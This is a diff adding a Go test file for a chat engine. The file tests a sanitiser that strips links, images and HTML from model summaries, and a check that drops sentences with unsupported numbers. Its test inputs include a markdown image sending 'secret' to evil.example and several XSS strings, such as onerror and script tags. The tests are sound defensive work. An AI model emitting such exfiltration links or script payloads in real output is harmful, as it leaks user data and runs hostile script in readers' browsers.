@@ -1,0 +1,143 @@
+package chat
+
+import (
+	"context"
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"catena/planner/plan"
+)
+
+// silent is a planner that remembers nothing, for tests with many goroutines and benchmarks.
+type silent struct{ answers map[string]plan.Response }
+
+func (s *silent) Plan(_ context.Context, req plan.Request) (plan.Response, error) {
+	return s.answers[req.Message], nil
+}
+
+func TestPlain(t *testing.T) {
+	for in, want := range map[string]string{
+		"a ![pixel](http://evil.example/?q=secret) b":  "a pixel b",
+		"a [link](https://x.example) b":                "a link b",
+		"a [link][1] b\n[1]: http://x.example":         "a link b",
+		"see https://x.example/a?b=c now":              "see  now",
+		"<img src=x onerror=alert(1)>text":             "text",
+		"<script>alert(1)</script>":                    "alert(1)",
+		"[![i](http://x)](http://y)":                   "i",
+		"javascript:alert(1 and data:text/html,x":      "and",
+		"<<b>script>x":                                 "x",
+		"1 < 2 and 3 > 2, a*b, 5% of $1,234.50 [sic]":  "1 < 2 and 3 > 2, a*b, 5% of $1,234.50 [sic]",
+		"![a](x)![b](y) www.x.example [c](<http://z>)": "ab  c",
+	} {
+		if got := Plain(in); got != want {
+			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func FuzzPlain(f *testing.F) {
+	f.Add("![a](http://x)")
+	f.Add("[[a](b)](c) <a <b>>")
+	f.Fuzz(func(t *testing.T, text string) {
+		got := Plain(text)
+		if Plain(got) != got {
+			t.Errorf("Plain is not stable on %q: %q", text, got)
+		}
+		if imageLink.MatchString(got) || textLink.MatchString(got) || markup.MatchString(got) || address.MatchString(got) {
+			t.Errorf("Plain(%q) = %q still holds something", text, got)
+		}
+	})
+}
+
+func TestSupported(t *testing.T) {
+	facts := numbersIn("| Northwind | $4,120,339.10 | −3.1% | 31.4% | 12 | 2026-11 | 0.05 | 1234567 |")
+	for text, want := range map[string]bool{
+		"$4,120,339.10": true, "$4,120,339": true, "about 4.1 million": true, "$4.12M": true, "4,120 thousand": true, "$4.1bn": false, "$4,120,340": false,
+		"fell by 3.1%": true, "3.2%": false, "31%": true, "31.4 percent": true, "32%": false, "31": false, "12 contracts": true, "13": false, "12%": false,
+		"in 2026": true, "in 2025": false, "Q3 and s1": true, "no numbers": true, "0.05": true, "5%": false, "1,234,567": true, "1.2 million": true, "1.3 million": false,
+	} {
+		got := true
+		for _, n := range numbersIn(text) {
+			got = got && supported(n, facts)
+		}
+		if got != want {
+			t.Errorf("%q: %v, want %v (%+v)", text, got, want, numbersIn(text))
+		}
+	}
+}
+
+func FuzzNumbers(f *testing.F) {
+	f.Add("$1,234.50 and 5% of 3e9 or 1 000 000 m")
+	f.Fuzz(func(t *testing.T, text string) {
+		found := numbersIn(text)
+		for _, n := range found {
+			if !supported(n, found) {
+				t.Errorf("a number of %q does not support itself: %+v", text, n)
+			}
+		}
+	})
+}
+
+func TestSummary(t *testing.T) {
+	w := newWorld(t)
+	writer := &writes{text: "Northwind Freight leads with $4,120,339.10. It grew by 14.2% since 2019! See ![x](http://evil.example). It has 12 contracts."}
+	w.opts.Writer = writer
+	resp := w.ask(t, "top")
+	if !strings.Contains(resp.Response, "Northwind Freight leads with $4,120,339.10. See x. It has 12 contracts.") || strings.Contains(resp.Response, "14.2%") || strings.Contains(resp.Response, "evil") {
+		t.Error(resp.Response)
+	}
+	if !slices.Contains(resp.Notes, "One sentence of the summary was left out: a number in it is not in the tables.") || slices.Contains(resp.Notes, offlineNote) || resp.Usage.Calls != 1 {
+		t.Errorf("%+v", resp)
+	}
+	if !strings.Contains(writer.prompt, "$4,120,339.10") || !strings.Contains(writer.prompt, "Question: top") {
+		t.Error(writer.prompt)
+	}
+
+	writer.err = errors.New("429")
+	resp = w.ask(t, "top")
+	if resp.Outcome != OutcomeAnswer || resp.Completeness.State != "complete" || !strings.Contains(resp.Response, "The model did not write a summary") {
+		t.Errorf("%+v", resp)
+	}
+	for _, req := range []Request{{Message: "top", Summarize: "off"}, {Message: "top", OutputFormat: "csv"}, {Message: "weather"}, {Message: "fails"}} {
+		writer.prompt = ""
+		if _, err := w.engine().Turn(context.Background(), ann, req, nil); err != nil || writer.prompt != "" {
+			t.Errorf("%+v: the model was asked: %v", req, err)
+		}
+	}
+}
+
+func BenchmarkTurn(b *testing.B) {
+	for _, listen := range []bool{false, true} {
+		name := "alone"
+		if listen {
+			name = "with events"
+		}
+		b.Run(name, func(b *testing.B) {
+			w := newWorld(b)
+			w.opts.Planner, w.opts.Sessions = &silent{w.planner.answers}, forgetful{}
+			e := w.engine()
+			var emit func(Payload)
+			if listen {
+				l := &liveRun{wake: make(chan struct{}, 1)}
+				emit = func(p Payload) { l.emit(w.opts.Log)(p); l.waiting, l.terminal = l.waiting[:0], false }
+			}
+			b.ReportAllocs()
+			for b.Loop() {
+				if _, err := e.Turn(context.Background(), ann, Request{Message: "chain"}, emit); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+// forgetful keeps no sessions, so that a benchmark shows a turn's own time.
+type forgetful struct{ Sessions }
+
+func (forgetful) CreateSession(context.Context, string, string, string, time.Time) error { return nil }
+func (forgetful) AppendTurn(context.Context, string, string, string, []byte, time.Time) error {
+	return nil
+}
